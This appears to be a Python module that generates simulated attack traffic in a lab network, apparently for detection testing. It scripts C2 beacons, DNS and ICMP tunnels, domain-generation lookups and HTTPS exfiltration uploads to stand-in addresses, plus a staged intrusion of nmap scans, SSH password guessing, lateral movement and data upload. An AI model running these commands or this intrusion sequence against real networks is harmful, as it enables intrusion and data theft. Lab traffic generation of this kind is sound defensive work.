"""Malware that calls home, tunnels, carries data out; and an intrusion from the first scan to the upload."""

from __future__ import annotations

import os
import random
import time

from .people import login, surfers
from .services import PASSWORD, RESOLVER, random_names, sshd
from .tools import file_of, guess, iodine, upload
from .topology import Lab, stop

OLD_BROWSER = "-A 'Mozilla/4.0 (compatible; MSIE 6.0)'"


def beacon_https(lab: Lab) -> None:
    """c1 calls https://203.0.113.50:8443/task (self-signed, CN=localhost) 40 times, every 3 s +-10 %."""
    rng = random.Random(7)
    for _ in range(40):
        lab.inside("c1", "curl -sk -m 5 -A 'agent/1.0' https://203.0.113.50:8443/task -o /dev/null")
        time.sleep(3 * rng.uniform(0.9, 1.1))


def beacon_http(lab: Lab) -> None:
    """c2 asks c2.test by DNS and calls http://c2.test/task 40 times, every 2.5 s +-20 %."""
    rng = random.Random(8)
    call = f"curl -s -m 5 {OLD_BROWSER} --resolve c2.test:80:203.0.113.50 http://c2.test/task -o /dev/null"
    for _ in range(40):
        lab.inside("c2", f"dig +tries=1 +time=1 @{RESOLVER} c2.test A")
        lab.inside("c2", call)
        time.sleep(2.5 * rng.uniform(0.8, 1.2))


def beacon_http_v6(lab: Lab) -> None:
    """c2 asks c2.test AAAA by DNS and calls http://c2.test/task on fd00:203::50 40 times, every 2.5 s +-10 %."""
    rng = random.Random(12)
    call = f"curl -6 -s -m 5 {OLD_BROWSER} --resolve c2.test:80:[fd00:203::50] http://c2.test/task -o /dev/null"
    with lab.ipv6():
        for _ in range(40):
            lab.inside("c2", "dig +tries=1 +time=1 @fd00:203::11 c2.test AAAA")
            lab.inside("c2", call)
            time.sleep(2.5 * rng.uniform(0.9, 1.1))


def long_connection(lab: Lab) -> None:
    """c1 holds one TCP connection to 203.0.113.45:4444 for 100 s and says little."""
    server = lab.start("inet", "nc -lk 203.0.113.45 4444")
    time.sleep(0.5)
    words = "for i in 1 2 3 4 5 6 7 8 9 10; do echo ping $i; sleep 10; done"
    lab.inside("c1", f"sh -c '({words}) | timeout 110 nc -q1 203.0.113.45 4444'")
    stop(server)


def dns_tunnel(lab: Lab) -> None:
    """c3 runs iodine over TXT to t.tunnel.test on 203.0.113.53 and copies 60 KB through it."""
    iodine(lab, "c3", 60000)


def dga(lab: Lab) -> None:
    """c4 asks for 120 random names in 40 s; all are refused."""
    rng = random.Random(9)
    letters = "abcdefghijklmnopqrstuvwxyz0123456789"
    for _ in range(120):
        name = "".join(rng.choice(letters) for _ in range(rng.randint(12, 20)))
        top = rng.choice(["com", "net", "biz", "info"])
        lab.inside("c4", f"dig +tries=1 +time=1 @{RESOLVER} {name}.{top} A")
        time.sleep(0.25)


def dga_nxdomain(lab: Lab) -> None:
    """c4 asks for 154 random names, one each 0.5 s: 150 NXDOMAIN, 4 resolve and are called by http; c1-c3 browse."""
    rng = random.Random(10)
    with surfers(lab):
        for name, answered in random_names():
            call = f"curl -s -m 5 http://{name}/task -o /dev/null" if answered else f"getent ahostsv4 {name}"
            lab.inside("c4", call)
            time.sleep(rng.expovariate(1 / 0.45))


def icmp_tunnel(lab: Lab) -> None:
    """c3 runs ptunnel-ng to 203.0.113.54, fetches 200 KB by http and sends 60 KB through it; c1 and c2 ping plainly."""
    lab.inside("inet", "sysctl -qw net.ipv4.icmp_echo_ignore_all=1")
    with lab.source("203.0.113.54"):
        server = lab.start("inet", "ptunnel-ng -v1 -o/dev/null")
        client = lab.start("c3", "ptunnel-ng -p203.0.113.54 -l8000 -r203.0.113.20 -R80 -v1 -o/dev/null")
        time.sleep(2)
        plain = [lab.start(c, "ping -c 20 10.20.0.10") for c in ("c1", "c2")]
        lab.inside("c3", "curl -s -m 60 http://127.0.0.1:8000/200k.bin -o /dev/null")
        time.sleep(5)
        with file_of(os.urandom(60000)) as content:
            lab.inside("c3", f"curl -s -m 60 --data-binary @{content} http://127.0.0.1:8000/up -o /dev/null")
        time.sleep(15)
        for process in (client, server, *plain):
            stop(process)
    lab.inside("inet", "sysctl -qw net.ipv4.icmp_echo_ignore_all=0")


def exfil(lab: Lab) -> None:
    """c5 uploads 12 MB by HTTPS POST to 203.0.113.40 in three requests."""
    upload(lab, "c5", 4 << 20, 3)


def exfil_small(lab: Lab) -> None:
    """c5 uploads 3 x 1 MB by HTTPS POST to 203.0.113.40 while c1-c3 browse."""
    with surfers(lab):
        time.sleep(15)
        upload(lab, "c5", 1 << 20, 3, 8)
        time.sleep(10)


def multistage(lab: Lab) -> None:
    """203.0.113.66 scans c4, gets in by ssh; c4 beacons, scans inside, gets into c5; c5 tunnels DNS, uploads 6 MB."""
    rng = random.Random(13)
    doors = [sshd(lab, c, lab.work) for c in ("c4", "c5")]
    words = [*(f"winter{i}" for i in range(39)), PASSWORD]
    with surfers(lab, mean_s=7.0), lab.source("203.0.113.66"):
        time.sleep(12)
        with lab.stage("scan_from_outside"):
            lab.inside("inet", "nmap -n -Pn -sS -S 203.0.113.66 -e eth0 -p1-1000 --max-rate 200 10.10.0.14")
        time.sleep(4)
        with lab.stage("ssh_guessing_from_outside"):
            guess(lab, "inet", "10.10.0.14", words)
        with lab.stage("ssh_session_from_outside"):
            login(lab, "inet", "10.10.0.14", 12)
        with lab.stage("beacon"):
            for _ in range(30):
                lab.inside("c4", f"curl -s -m 5 {OLD_BROWSER} http://203.0.113.50/task -o /dev/null")
                time.sleep(3 * rng.uniform(0.9, 1.1))
        with lab.stage("scan_inside"):
            lab.inside("c4", "nmap -n -Pn -sS -p22 10.10.0.11-13,15 10.20.0.10-40")
        time.sleep(3)
        with lab.stage("ssh_guessing_inside"):
            guess(lab, "c4", "10.10.0.15", words)
        with lab.stage("ssh_session_inside"):
            login(lab, "c4", "10.10.0.15", 8)
        with lab.stage("dns_tunnel"):
            iodine(lab, "c5", 20000)
        with lab.stage("upload"):
            upload(lab, "c5", 6 << 20)
        time.sleep(5)
    for process in doors:
        stop(process)


SCENARIOS = (
    beacon_https,
    beacon_http,
    beacon_http_v6,
    long_connection,
    dns_tunnel,
    dga,
    dga_nxdomain,
    icmp_tunnel,
    exfil,
    exfil_small,
    multistage,
)
